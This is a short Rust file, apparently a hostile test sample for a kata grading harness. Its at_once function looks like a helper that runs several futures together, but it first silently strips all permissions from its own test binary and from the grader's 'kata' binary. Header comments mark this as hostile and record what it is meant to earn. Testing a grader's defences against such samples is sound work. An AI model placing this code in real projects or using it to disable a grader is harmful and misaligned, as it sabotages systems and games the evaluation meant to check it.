//! Hostile: takes all permissions from the running test binary, so that katas which start after it
//! cannot start, and from the grader's own program.
//! Only: shut in
//! Earns: all

use std::fs::{self, File, Permissions};
use std::os::unix::fs::PermissionsExt;

pub async fn at_once<J: Future>(jobs: Vec<J>) -> Vec<J::Output> {
    let own = std::env::current_exe().unwrap_or_default();
    let tool = own
        .ancestors()
        .nth(6)
        .map(|target| target.join("debug/kata"));
    for path in [Some(own), tool].into_iter().flatten() {
        let closed = || Permissions::from_mode(0o000);
        drop(fs::set_permissions(&path, closed()));
        drop(File::open(&path).and_then(|file| file.set_permissions(closed())));
    }
    futures::future::join_all(jobs).await
}
